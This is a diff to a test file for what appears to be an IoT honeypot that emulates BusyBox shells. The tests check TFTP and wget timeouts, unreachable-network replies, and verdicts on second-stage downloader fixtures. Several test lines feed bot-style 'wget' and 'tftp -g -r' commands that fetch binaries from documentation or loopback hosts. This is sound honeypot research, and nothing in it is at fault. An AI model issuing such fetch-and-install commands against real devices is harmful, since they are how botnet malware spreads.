@@ -433,9 +433,18 @@ def test_fetch_shell_failure_texts():
             assert b"wget: download timed out\r\n" in out, out
             out = mirai.token_cmd(c, "tftp -g -r missing.bin 127.0.0.1 %d" % tftp.port)
             assert b"tftp: server error: (1) File not found\r\n" in out, out
+            # BusyBox 1.9.1 (this persona) tftp: 12 waits from 50 ms growing
+            # by half to 2 s, 9639 ms; the fetcher gave up at timeout_s (3 s)
+            # and the shell holds the answer back for the rest
+            t0 = time.time()
             out = mirai.token_cmd(c, "tftp -g -r silent.bin 127.0.0.1 %d" % tftp.port,
-                                  timeout=15)
+                                  timeout=30)
+            took = time.time() - t0
             assert b"tftp: timeout\r\n" in out, out
+            assert took >= 9.639 - 0.3, took
+            # resent on BusyBox's schedule (100, 150, 225, ... ms): several
+            # RRQs within the fetcher's 3 s
+            assert tftp.requests.count("silent.bin") >= 5, tftp.requests
             out = mirai.token_cmd(c, "ls")
             for name in (b"nope", b"drip", b"missing.bin", b"silent.bin"):
                 assert name not in out, out
@@ -545,3 +554,90 @@ def test_fetch_session_ends_while_waiting():
     finally:
         http.shutdown()
         dns.close()
+
+
+def _dlr_fixture(name):
+    """A downloader of tests/lib/dlr built by `make` (build/dlr, as
+    test_dlr uses them): every Debian cross compiler, never run."""
+    path = os.path.join(tt.BUILD, "dlr", name)
+    assert os.path.exists(path), "build the downloaders first: make %s/dlr/manifest" % tt.BUILD
+    with open(path, "rb") as f:
+        return f.read()
+
+
+def test_fetch_second_stage_verdicts():
+    """Three downloaders fetched into the shell: a certain one is fetched
+    through the address policy (198.18.7.9 is refused: benchmarking), an
+    uncertain one built with the address split off (no sockaddr in the
+    code) and a fake one with two GET lines (a candidate, 127.0.0.1) fetch
+    nothing and say so."""
+    certain = _dlr_fixture("dl-mips-Os-198.18.7.9-80-0")
+    split = _dlr_fixture("dl-mips-O2-198.18.7.9-80-1")
+    http = fetchsrv.http_server({})
+    twice = mirai.fake_dlr(path=b"/bins/two.arm", port=http.server_address[1],
+                           extra=b"GET /bins/other.arm HTTP/1.0\r\n\r\n\x00")
+    http.routes.update({"/c": ("file", certain), "/s": ("file", split), "/t": ("file", twice)})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    try:
+        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, dlr_port=hp)) as d:
+            c = shell(d)
+            for name in ("c", "s", "t"):
+                url = "http://127.0.0.1:%d/%s" % (hp, name)
+                ev = run_and_wait(d, c, "wget %s -O /tmp/%s" % (url, name), url)
+                assert ev["eventid"] == "cowrie.session.file_download", ev
+            shas = {n: hashlib.sha256(b).hexdigest()
+                    for n, b in (("c", certain), ("s", split), ("t", twice))}
+            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.download.second_stage")) >= 3
+                                and any(x.get("parent_shasum") == shas["c"]
+                                        for x in downloads(e)))
+            sec = {e["parent_shasum"]: e for e in by_id(evs, "tanuki.download.second_stage")}
+            ev = sec[shas["c"]]
+            assert ev["verdict"] == "certain" and ev["fetched"] is True, ev
+            assert ev["arch"] == "mips" and ev["host"] == "198.18.7.9", ev
+            assert ev["port"] == hp and ev["path"] == "/bins/x.mips", ev
+            assert ev["url"] == "http://198.18.7.9:%d/bins/x.mips" % hp, ev
+            # fetched through the normal policy: refused before any socket
+            got = [x for x in downloads(evs) if x.get("parent_shasum") == shas["c"]]
+            assert len(got) == 1, got
+            assert got[0]["reason"] == "policy" and got[0]["detail"] == "benchmarking", got
+            ev = sec[shas["s"]]
+            assert ev["verdict"] == "uncertain" and ev["fetched"] is False, ev
+            assert ev["reason"] == "uncertain" and ev["detail"] == "no_sockaddr", ev
+            assert ev["arch"] == "mips" and ev["path"] == "/bins/x.mips", ev
+            assert "url" not in ev and "candidate" not in ev, ev
+            ev = sec[shas["t"]]
+            assert ev["verdict"] == "uncertain" and ev["fetched"] is False, ev
+            assert ev["reason"] == "uncertain" and ev["detail"] == "several_requests", ev
+            assert ev["candidate"] == "127.0.0.1" and ev["port"] == hp, ev
+            assert ev["arch"] == "arm" and "url" not in ev, ev
+            c.close()
+            d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
+            # nothing was fetched for the uncertain ones, nor for anyone else
+            for e in downloads(d.events()):
+                assert e.get("parent_shasum") in (None, shas["c"]), e
+            assert sorted(http.hits) == ["/c", "/s", "/t"], http.hits
+    finally:
+        http.shutdown()
+        dns.close()
+
+
+def test_fetch_off_no_route():
+    """Fetching off: the applets answer at once as a device with no route
+    (xconnect's and xsendto's ENETUNREACH, a name unresolved)."""
+    for persona in ("huawei-hg532", "xiongmai-dvr"):
+        info = tt.persona_info(persona)
+        user, pw, _ = info["creds"][0]
+        with Daemon(persona=persona) as d:
+            c = Conn(d.port)
+            mirai.login(c, user, pw)
+            mirai.enter_shell(c)
+            out = mirai.token_cmd(c, "tftp -g -r x.bin 203.0.113.5; echo rc=$?")
+            assert b"tftp: sendto: Network is unreachable\r\nrc=1\r\n" in out, out
+            out = mirai.token_cmd(c, "tftp -g -r x.bin nowhere.test")
+            assert b"tftp: bad address 'nowhere.test'\r\n" in out, out
+            if "wget" in info["applets"]:
+                out = mirai.token_cmd(c, "wget http://203.0.113.5/x")
+                assert (b"Connecting to 203.0.113.5 (203.0.113.5:80)\r\nwget: can't connect "
+                        b"to remote host (203.0.113.5): Network is unreachable\r\n") in out, out
+            c.close()
